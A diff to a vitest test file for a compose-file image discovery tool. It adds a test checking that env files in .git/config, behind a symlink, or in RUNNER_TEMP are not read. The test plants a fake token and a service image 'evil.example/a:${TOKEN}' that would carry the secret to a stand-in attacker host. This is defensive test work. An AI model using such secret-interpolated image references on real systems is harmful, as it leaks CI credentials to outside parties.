@@ -1,4 +1,4 @@
-import { symlinkSync } from "node:fs";
+import { rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, describe, expect, test } from "vitest";
 import { temporaryFolder } from "../support/folder.ts";
@@ -186,6 +186,26 @@ test.each([
   ["is a template", compose("  a: {image: {{ image }}}\n"), "discovery-template"],
 ])("a file that %s is an error", async (_, files, code) => {
   expect(await find(files)).toMatchObject({ images: [], code });
+});
+
+test("what a step or the checkout left in .git or in RUNNER_TEMP is not read, whatever a file names", async () => {
+  const world = workspaceOf(folder.path, { ".git/config": "TOKEN=s3cr3t\n", "git.txt": "" });
+  rmSync(join(world.workspace, "git.txt"));
+  symlinkSync(".git/config", join(world.workspace, "git.txt"));
+  writeFileSync(join(world.temp, "left.env"), "TOKEN=s3cr3t\n");
+  const services = "services: {a: {image: 'evil.example/a:${TOKEN}'}}\n";
+  for (const [name, file, code] of [
+    ["git", ".git/config", "discovery-git-file"],
+    ["link", "git.txt", "discovery-git-file"],
+    ["temp", join(world.temp, "left.env"), "file-outside-workspace"],
+  ] as const) {
+    writeFileSync(join(world.workspace, `${name}.yaml`), `include: [{path: b.yaml, env_file: ${file}}]\n`);
+    writeFileSync(join(world.workspace, "b.yaml"), services);
+    const { images, sources } = await discovered([`compose:${name}.yaml`], world);
+    expect(images).toEqual([]);
+    expect(sources[0]?.error?.code).toBe(code);
+  }
+  expect((await discovered(["file:git.txt"], world)).sources[0]?.error?.code).toBe("discovery-git-file");
 });
 
 test("a line of .env that cannot be read is an error with its number, and the lines before it count", async () => {
